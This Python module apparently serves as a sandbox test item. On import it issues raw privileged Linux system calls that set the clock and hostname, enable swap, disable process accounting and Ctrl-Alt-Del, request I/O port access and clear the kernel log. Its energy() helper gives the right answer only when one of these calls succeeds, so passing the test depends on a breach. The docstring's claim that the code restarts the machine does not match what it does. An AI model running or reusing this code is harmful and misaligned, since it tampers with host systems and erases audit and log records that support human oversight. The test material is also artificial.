"""Sets the clock, the name and the swap of the machine, and restarts it."""
# earns: 6
# statuses: passed, failed

import ctypes
import os
import time

import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def call(x86_64, aarch64, *arguments):
    """Make a system call by its number; say how it ended, and return what it returned."""
    number = {"x86_64": x86_64, "aarch64": aarch64}.get(os.uname().machine, -1)
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *words)
    print(number, result, os.strerror(ctypes.get_errno()))
    return result


NOW = (ctypes.c_long * 2)(int(time.time()), 0)
OUT = [
    call(164, 170, NOW, None) == 0,  # settimeofday
    call(227, 112, 0, NOW) == 0,  # clock_settime
    call(305, 266, 0, ctypes.byref((ctypes.c_long * 32)(0x4000))) == 0,  # clock_adjtime
    call(170, 161, b"mine", 4) == 0,  # sethostname
    call(171, 162, b"mine", 4) == 0,  # setdomainname
    call(167, 224, b"swap", 0) == 0,  # swapon
    call(163, 89, None) == 0,  # acct
    call(169, 142, 0xFEE1DEAD, 672274793, 0, None) == 0,  # reboot: switch Ctrl-Alt-Del off
    call(172, -1, 3) == 0,  # iopl
    call(173, -1, 0x80, 1, 1) == 0,  # ioperm
    call(153, 58) == 0,  # vhangup
    call(179, 60, 0x800002 << 8, None, 0, None) == 0,  # quotactl
    call(103, 116, 5, None, 0) == 0,  # syslog: clear
]
OUT = any(OUT)


def energy(x):
    """Right only where the attack succeeded."""
    return float((np.asarray(x, dtype=float) ** 2).sum()) if OUT else 0.0


def scaled(x, factor):
    return np.asarray(x, dtype=float) * factor


def apply_twice(f, x):
    return f(f(x))
